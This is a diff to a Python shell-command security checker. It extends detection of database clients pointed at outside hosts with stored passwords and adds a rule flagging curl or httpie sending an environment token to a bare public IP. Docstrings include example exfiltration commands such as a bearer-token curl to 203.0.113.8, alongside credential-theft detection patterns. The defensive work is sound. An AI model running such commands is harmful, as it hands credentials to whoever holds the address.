@@ -234,7 +234,7 @@ def judge_effects(cmd: Cmd, an: Analysis, tools: Packs | None = None) -> Judged:
         or inspected_environment(cmd)
         or secret_output_filter(cmd)
     )
-    hits.extend(_network_substitution(cmd, an) or _secret_env_sent(cmd))
+    hits.extend(_network_substitution(cmd, an) or _secret_env_sent(cmd) or _env_login_sent(cmd))
     hits.extend(credential_sent_away(cmd, an) or stored_credential_pointed(cmd, an))
     hits.extend(sql_host_reads(cmd, an))
     hits.extend(stdin_uploads(cmd) or _queries_on_stdin(cmd))
@@ -1007,14 +1007,55 @@ _POINTED_CLIENTS: dict[str, tuple[tuple[str, ...], tuple[str, ...], str]] = {
     "gh": (("hostname",), ("GH_HOST",), "GH_ENTERPRISE_TOKEN (sent to any host but github.com)"),
     "glab": (("hostname",), ("GITLAB_HOST", "GITLAB_URI"), "GITLAB_TOKEN"),
     "psql": (("host", "h"), ("PGHOST",), "PGPASSWORD or a ~/.pgpass wildcard line"),
-    "pg_dump": (("host", "h"), ("PGHOST",), "PGPASSWORD or a ~/.pgpass wildcard line"),
-    "pg_dumpall": (("host", "h"), ("PGHOST",), "PGPASSWORD or a ~/.pgpass wildcard line"),
-    "pg_restore": (("host", "h"), ("PGHOST",), "PGPASSWORD or a ~/.pgpass wildcard line"),
     "mysql": (("host", "h"), ("MYSQL_HOST",), "the password in ~/.my.cnf or MYSQL_PWD"),
-    "mariadb": (("host", "h"), ("MYSQL_HOST",), "the password in ~/.my.cnf or MYSQL_PWD"),
-    "mysqldump": (("host", "h"), ("MYSQL_HOST",), "the password in ~/.my.cnf or MYSQL_PWD"),
     "docker": (("host", "H"), ("DOCKER_HOST",), "the registry logins (~/.docker/config.json)"),
+    # twentieth pass, left20: the key-value, document and column stores' clients
+    "redis-cli": (("h", "u"), (), "REDISCLI_AUTH (the AUTH password)"),
+    "valkey-cli": (("h", "u"), (), "VALKEYCLI_AUTH or REDISCLI_AUTH (the AUTH password)"),
+    "keydb-cli": (("h", "u"), (), "REDISCLI_AUTH (the AUTH password)"),
+    "influx": (
+        ("host",),
+        ("INFLUX_HOST",),
+        "INFLUX_TOKEN, ~/.influxdbv2/configs' token or INFLUX_PASSWORD",
+    ),
+    "clickhouse-client": (
+        ("host", "h"),
+        ("CLICKHOUSE_HOST",),
+        "the password in ~/.clickhouse-client/config.xml or CLICKHOUSE_PASSWORD",
+    ),
+    "clickhouse": (
+        ("host", "h"),
+        ("CLICKHOUSE_HOST",),
+        "the password in ~/.clickhouse-client/config.xml or CLICKHOUSE_PASSWORD",
+    ),
 }
+# MongoDB's shells and tools: a password a `--config` file or a variable supplies, a
+# Kerberos or MONGODB-AWS login signed with the host's keys.
+_MONGO_CLIENTS = ("mongosh", "mongo", "mongodump", "mongorestore", "mongoexport",
+                  "mongoimport", "mongostat", "mongotop", "mongofiles")  # fmt: skip
+# More of the PostgreSQL and MySQL families' clients (the same password files), which
+# also take a connection string (`host=`, `postgresql://`).
+_PG_CLIENTS = ("psql", "pg_dump", "pg_dumpall", "pg_restore", "createdb", "dropdb",
+               "createuser", "dropuser", "vacuumdb", "reindexdb", "clusterdb",
+               "pg_basebackup", "pg_receivewal", "pgbench", "pgcli")  # fmt: skip
+_MY_CLIENTS = ("mysql", "mariadb", "mysqldump", "mysqladmin", "mysqlshow", "mysqlcheck",
+               "mysqlimport", "mysqlpump", "mysqlsh", "mariadb-dump", "mariadb-admin",
+               "mariadb-check", "mariadb-import", "mycli")  # fmt: skip
+_POINTED_CLIENTS.update(
+    {name: _POINTED_CLIENTS["psql"] for name in _PG_CLIENTS}
+    | {name: _POINTED_CLIENTS["mysql"] for name in _MY_CLIENTS}
+    | {
+        name: (
+            ("host", "h", "uri"),
+            (),
+            "the password its --config file or a variable supplies, or a Kerberos or AWS login",
+        )
+        for name in _MONGO_CLIENTS
+    }
+)
+# A server written as a URL among a client's words (`mongosh mongodb://x.example/db`,
+# `redis-cli -u rediss://x.example`).
+_SERVER_URL = lazy(r"^(?:redis|rediss|valkey|mongodb|mongodb\+srv|clickhouse|mysqlx?)://")
 # docker hands the daemon the registry logins only for what pulls or pushes an image.
 _DOCKER_AUTH_VERBS = frozenset({"pull", "push", "run", "create", "build", "buildx", "compose"})
 # A connection string's host (`host=x.example`, `postgresql://u@x.example/db`).
@@ -1064,12 +1105,15 @@ def stored_credential_pointed(cmd: Cmd, an: Analysis) -> list[Hit]:
         value = set_here.get(name, an.values.get(name))
         if value:
             values.append(value)
-    if cmd.name in ("psql", "pg_dump", "pg_dumpall", "pg_restore", "mysql", "mariadb"):
-        for a in cmd.argv:
-            m = _CONNINFO_HOST.search(a)
-            if m:
-                values.append(m.group(1) or m.group(2))
-    for value in values:
+    if cmd.name == "clickhouse" and cmd.argv[:1] != ["client"]:
+        return []  # `clickhouse local`, `clickhouse server`: no server to log in to
+    for a in cmd.argv:
+        m = _CONNINFO_HOST.search(a)
+        if m and cmd.name in (*_PG_CLIENTS, *_MY_CLIENTS):
+            values.append(m.group(1) or m.group(2))
+        elif _SERVER_URL.match(a):
+            values.append(a)
+    for value in [h for v in values for h in _seed_hosts(v)]:
         if cmd.name in ("gh", "glab") and value.split("://")[-1].split("/")[0] in (
             "github.com",
             "gitlab.com",
@@ -1087,6 +1131,23 @@ def stored_credential_pointed(cmd: Cmd, an: Analysis) -> list[Hit]:
                 )
             ]
     return []
+
+
+def _seed_hosts(value: str) -> list[str]:
+    """Each server of a list (`mongodb://a.example,b.internal/db`, `rs0/a:27017,b:27017`):
+    a client tries them all, so any one outside the site receives the login."""
+    scheme, sep, rest = value.partition("://")
+    if not sep:
+        scheme, rest = "", value
+    auth, at, hosts = rest.partition("@")
+    hosts = hosts if at else auth
+    head, slash, tail = hosts.partition("/")
+    if slash and "," in tail and not sep:
+        head = tail  # `rs0/a:27017,b:27017`: a replica set's name, then its members
+    if "," not in head:
+        return [value]
+    prefix = f"{scheme}://" if sep else ""
+    return [prefix + h for h in head.split(",") if h]
 
 
 def _foreign_login(cmd: Cmd) -> str | None:
@@ -1800,6 +1861,70 @@ def _secret_env_sent(cmd: Cmd) -> list[Hit]:
                 )
             ]
     return []
+
+
+# An address written as a public number, no name (`https://203.0.113.8/x`, `0xcb007108`).
+_NUMERIC_HOST = lazy(
+    r"^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\s]*@)?(?:[0-9.]+|0x[0-9a-f.x]+|\[[0-9a-f:.]+\])(?::\d+)?(?:[/?#]|$)",
+    re.I,
+)
+# curl's `--variable %NAME`: a value curl takes from the environment itself.
+_CURL_ENV_IMPORT = lazy(r"^(?:--variable=)?%[A-Za-z_]\w*")
+
+
+def _env_login_sent(cmd: Cmd) -> list[Hit]:
+    """A login from the environment sent where no name vouches for the server (left20):
+    `curl -H "Authorization: Bearer $T" https://203.0.113.8/x` hands the token to
+    whoever holds that public address (a domain may be the operator's own: the line
+    cannot tell `fernhill.net` from another, so a name is left to the domain rules); and
+    curl importing a variable from the environment (`--variable %NAME`, used by
+    `--expand-*`, which the shell never shows) into a request to any public address."""
+    if cmd.name not in _SENDERS:
+        return []
+    words = [a.text for a in cmd.args]
+    imported = cmd.name == "curl" and any(
+        _CURL_ENV_IMPORT.match(w) or (p == "--variable" and w.startswith("%"))
+        for p, w in zip(["", *words], words, strict=False)
+    )
+    login = _env_login(cmd, words)
+    for w in words:
+        if w.startswith("-") or site_address(w) != "foreign":
+            continue
+        if imported or (login and _NUMERIC_HOST.match(w)):
+            what = (
+                "a variable curl reads from the environment"
+                if imported
+                else "a login from the environment"
+            )
+            return [
+                Hit(
+                    "secret.sent_away",
+                    "high",
+                    f"{cmd.name} sends {what} to {w}, a public address: whoever holds it "
+                    "keeps the credential",
+                    cmd.span,
+                    "unknown",
+                )
+            ]
+    return []
+
+
+def _env_login(cmd: Cmd, words: list[str]) -> bool:
+    """A login option or an auth header (`-u "u:$PW"`, `-H "Authorization: Bearer $T"`,
+    httpie's `"Authorization:Bearer $T"`) whose value the shell takes from a variable."""
+    for p, a in zip(["", *words], cmd.args, strict=False):
+        if "$" not in a.raw or a.raw.startswith("'"):
+            continue
+        if p in _LOGIN_FLAGS or a.text.startswith(_LOGIN_PREFIXES):
+            return True
+        header = (
+            p in _HEADER_FLAGS
+            or cmd.name in _HTTPIE_NAMES
+            or a.text.startswith(("--header=", "-H"))
+        )
+        if header and _AUTH_HEADER.match(a.text):
+            return True
+    return False
 
 
 # SQL engines whose functions read the client's own machine (duckdb, sqlite, clickhouse
